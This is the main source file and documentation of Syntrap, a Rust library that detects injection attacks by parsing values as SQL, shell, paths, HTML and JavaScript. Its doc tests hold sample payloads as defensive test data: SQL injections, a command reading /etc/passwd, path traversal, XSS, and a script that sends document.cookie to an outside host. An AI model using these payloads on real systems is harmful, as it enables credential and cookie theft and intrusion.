//! Syntrap decides whether a string is an injection by reading it as what it would become: SQL, a
//! command line, a file's path, HTML, JavaScript.
//!
//! It holds no signatures. It has tokenizers and LALR grammars of SQL (the union of
//! MySQL/MariaDB, PostgreSQL, SQLite, SQL Server and Oracle), of command lines (the POSIX shell and
//! bash, `cmd.exe`, PowerShell), of paths, of HTML and of JavaScript, and knows what each construct does
//! when it runs. A value is an attack in a context when it leaves its place, when its tokens are a
//! prefix of some well-formed program, and when something that it adds acts: reads, writes, calls,
//! decides, waits.
//!
//! ```
//! use syntrap::Detector;
//!
//! let detector = Detector::default();
//! assert!(detector.is_attack(b"1' UNION SELECT password FROM users -- "));
//! assert!(detector.is_attack(b"192.0.2.1; cat /etc/passwd"));
//! assert!(!detector.is_attack(b"O'Brien and Sons"));
//! ```
//!
//! A [`Detector`] is immutable, `Send + Sync` and cheap to clone: build one and share it. Syntrap
//! is no substitute for prepared statements; it is for traffic in front of programs that you
//! cannot change or do not trust to use them.
//!
//! # Contexts and verdicts
//!
//! A [`Context`] is the place in a program's text where the value lands: inside `'…'`, behind an
//! operand, in a comment. By default most are tried, for few callers know. In an *injection* context
//! the value must break out of data; in a *command* context the whole value is a program, which a
//! console receives legitimately: of these, SQL's alone is tried unless the caller names others. Who knows
//! the place says so: the answer is faster and quieter.
//!
//! ```
//! use syntrap::{Context, ContextKind, ContextSet, Detector, Verdict};
//!
//! let quoted = ContextSet::EMPTY.with(Context::SqlSingleQuoted);
//! let detector = Detector::builder().contexts(quoted).build();
//! assert_eq!(detector.scan(b"7 or 3=3").verdict, Verdict::Benign);
//! assert_eq!(detector.scan(b"' or 'k'='k").verdict, Verdict::Attack);
//!
//! // A whole statement is a command, not an injection.
//! let report = Detector::default().scan(b"drop table users");
//! assert!(report.has(ContextKind::Command) && !report.has(ContextKind::Injection));
//! ```
//!
//! The names of files are a language too: [`Context::PathSegment`] is a part of a name that the
//! program opens. See [`path`].
//!
//! ```
//! use syntrap::Detector;
//!
//! assert!(Detector::default().is_attack(b"thumbs/../../secret.pem"));
//! assert!(!Detector::default().is_attack(b"thumbs/../photo.jpg"));
//! ```
//!
//! A document becomes active by scripts, event handlers, URLs that run and what it takes from elsewhere;
//! markup alone is none of these. [`Context::HtmlData`] is text between tags. See [`html`].
//!
//! ```
//! use syntrap::Detector;
//!
//! assert!(Detector::default().is_attack(b"<img src=x onerror=f(1)>"));
//! assert!(!Detector::default().is_attack(b"<b>new</b>: 1 < 2"));
//! ```
//!
//! A script in a page has literals too. [`Context::JsSingleQuoted`] and its like read a value as what
//! it becomes there, [`Context::JsTemplateInjection`] as a template whose expressions a framework runs.
//! See [`js`].
//!
//! ```
//! use syntrap::Detector;
//!
//! assert!(Detector::default().is_attack(b"';fetch('//example.org/?'+document.cookie)//"));
//! assert!(Detector::default().is_attack(b"{{a.constructor('return process')()}}"));
//! assert!(!Detector::default().is_attack(b"it's (really) nice, {{name}}"));
//! ```
//!
//! # Policy
//!
//! What an accepted text does is a set of [`Effects`]. A [`Policy`] says which of them are an
//! attack, for injections and for commands: [`Policy::DEFAULT`], [`Policy::STRICT`],
//! [`Policy::LAX`], or one made from them.
//!
//! ```
//! use syntrap::{Detector, Effects, Policy};
//!
//! let mut policy = Policy::DEFAULT;
//! policy.command = Effects::empty(); // here people may send whole statements
//! let detector = Detector::builder().policy(policy).build();
//! assert!(!detector.is_attack(b"drop table users"));
//! assert!(detector.is_attack(b"1; drop table users"));
//! ```
//!
//! # Why
//!
//! A [`Report`] has a [`Finding`] for each context in which the value is an attack: the dialect,
//! the part that the grammar accepted, the instructions and what they do. A [`Trace`] tells how far
//! a context got with any value, and at which token it gave up.
//!
//! ```
//! use syntrap::{Context, Detector, Effects};
//!
//! let value = b"1' UNION SELECT password FROM users -- ";
//! let report = Detector::default().scan(value);
//! let finding = &report.findings[0];
//! assert_eq!(finding.context, Context::SqlSingleQuoted);
//! assert!(finding.effects.contains(Effects::READ));
//! assert_eq!(finding.instructions[0].kind, "set operation");
//!
//! let traces = Detector::default().trace(b"it's 5 or more");
//! assert!(traces.iter().all(|trace| trace.effects.is_empty()));
//! ```
//!
//! The feature `serde` makes all of these serialisable.
//!
//! # Streams
//!
//! A value may come in pieces. However it is cut, the report is that of the whole, and memory does
//! not grow with it.
//!
//! ```
//! let mut stream = syntrap::Detector::default().stream();
//! stream.push(b"1 UNI");
//! stream.push(b"ON SELECT 1, 2");
//! assert!(stream.finish().is_attack());
//! ```
//!
//! # Performance
//!
//! Most values are ordinary, so every step only takes work away from the next one: a pass over the bytes
//! leaves out the contexts that the value cannot leave, a few tokens show most others to be dead, and only
//! what is left is read in full. What to do with that:
//!
//! * Build one [`Detector`] and share it. Building one is not free: tables are computed for it.
//! * Leave out what cannot be there, by [`languages`](DetectorBuilder::languages) or, better, by
//!   [`contexts`](DetectorBuilder::contexts). A language that is left out costs a test of one flag.
//! * Ask [`is_attack`](Detector::is_attack) or [`verdict`](Detector::verdict) for each value: they stop at
//!   the first finding and allocate nothing. Ask [`scan`](Detector::scan) for the values that are attacks.
//! * Scan a value whole if it is at hand. A [`Stream`] reads all of its contexts side by side, without the
//!   steps that leave work out.
//!
//! # What the caller decodes first
//!
//! Syntrap reads the bytes that the database would read, in any encoding or none. Undo first what
//! stands between: percent-encoding and `+` for a space, HTML entities, JSON escapes, Base64,
//! compression, and any Unicode normalisation that the program applies. Scan each decoded value by
//! itself, names of parameters too, not the whole request.
//!
//! ```
//! let detector = syntrap::Detector::default();
//! assert!(!detector.is_attack(b"1%27%20OR%20%27a%27%3D%27a"));
//! assert!(detector.is_attack(b"1' OR 'a'='a"));
//! ```
//!
//! # Untrusted input
//!
//! The attacker chooses every byte and knows this library. For every value
//!
//! * time is linear in its length;
//! * nothing panics, and there is no `unsafe` code;
//! * [`Detector::is_attack`] allocates nothing, under the default [`Limits`] at any length;
//! * a [`Stream`] holds no more than the limits allow.
//!
//! At a limit the verdict is [`Verdict::Undecided`], with the [`Reason`], unless an attack was
//! found before: nothing is known about the value. It is never called benign for its size or depth.
//! Honest values do not nest 256 grammar symbols deep, so treat `Undecided` as an attack, or raise
//! [`Limits`]. [`is_attack`](Detector::is_attack) answers `false` there; a caller who wants to tell
//! the cases apart asks [`verdict`](Detector::verdict) or [`scan`](Detector::scan).
//!
//! ```
//! use syntrap::{Detector, Limits, Reason, Verdict};
//!
//! let deep = b"(".repeat(300);
//! assert_eq!(Detector::default().scan(&deep).verdict, Verdict::Undecided(Reason::TooDeep));
//!
//! let mut limits = Limits::default();
//! limits.depth = 4096;
//! let patient = Detector::builder().limits(limits).build();
//! assert_eq!(patient.scan(&deep).verdict, Verdict::Benign);
//! ```
//!
//! # The parts alone
//!
//! [`sql`] has the tokenizer, and the grammar's tables for the push [`Recogniser`], which takes one
//! token at a time, can be cloned between two, and can be asked what it would take.
//!
//! ```
//! use syntrap::Push;
//! use syntrap::sql::{self, Dialect, Start, Terminal};
//!
//! let mut recogniser = sql::recogniser();
//! recogniser.push_terminal(Terminal::StartValue.index());
//! for token in sql::tokens(b"x' OR 1=1 -- ", Start::SingleQuoted, Dialect::MySql) {
//!     assert_eq!(recogniser.push_terminal(token.terminal.index()), Push::Shifted);
//! }
//! assert!(recogniser.can_shift(Terminal::And.index()));
//! assert!(!recogniser.can_shift(Terminal::Number.index()));
//! ```
//!
//! # Crate features
//!
//! * `serde`, off by default: `Serialize` for [`Report`], [`Finding`], [`Trace`], [`Token`] and everything
//!   in them.
//!
//! There are no others: all languages are always there, for a detector without one is faster, not smaller.
//! C and C++ programs use the package `syntrap-ffi` and its header `syntrap.h`.
//!
//! # Further reading
//!
//! In the repository, `docs/` has the architecture, the rules of evidence with examples, the threat model,
//! tuning on one's own traffic, and how to add a construct or a language.
//!
//! # Minimum supported Rust version
//!
//! 1.86.

mod context;
mod detector;
mod effect;
pub mod html;
pub mod js;
pub mod path;
mod policy;
mod recogniser;
mod report;
mod run;
mod screen;
pub mod shell;
pub mod sql;
mod tokens;

pub use context::{Context, ContextKind, ContextSet, Language, UnknownName};
pub use detector::{Detector, DetectorBuilder, Limits, Stream};
pub use effect::Effects;
pub use policy::Policy;
pub use recogniser::{Grammar, INLINE_DEPTH, Push, RecogniseOnly, Recogniser, Semantics, Stack, Symbol};
pub use report::{Finding, Instruction, Reason, Report, Trace, Verdict};
pub use tokens::Token;

/// The examples of the documents beside the code, which are compiled and run as those of the code are.
#[cfg(doctest)]
mod documents {
    #[doc = include_str!("../README.md")]
    struct Readme;

    #[doc = include_str!("../docs/threat-model.md")]
    struct ThreatModel;

    #[doc = include_str!("../docs/tuning.md")]
    struct Tuning;
}
